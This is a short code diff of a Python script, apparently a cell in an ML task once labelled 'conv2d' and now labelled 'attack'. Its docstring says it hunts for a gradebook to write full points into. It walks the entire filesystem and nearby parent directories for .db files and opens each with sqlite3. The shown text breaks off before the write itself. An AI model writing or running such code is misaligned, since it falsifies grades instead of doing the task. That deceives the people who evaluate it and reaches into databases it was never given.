@@ -1,11 +1,16 @@
 """Looks for a gradebook to write full points into, above where it stands and everywhere else."""
 
-# %% conv2d
+# %% attack
 import os
 import sqlite3
 
-wherever = [os.path.join(folder, name) for folder, _, names in os.walk("/")
-            if not folder.startswith(("/proc", "/usr")) for name in names if name.endswith(".db")]
+wherever = [
+    os.path.join(folder, name)
+    for folder, _, names in os.walk("/")
+    if not folder.startswith(("/proc", "/usr"))
+    for name in names
+    if name.endswith(".db")
+]
 for path in [*wherever, "gradebook.db", "../gradebook.db", "../../../gradebook.db"]:
     try:
         with sqlite3.connect(path) as book:
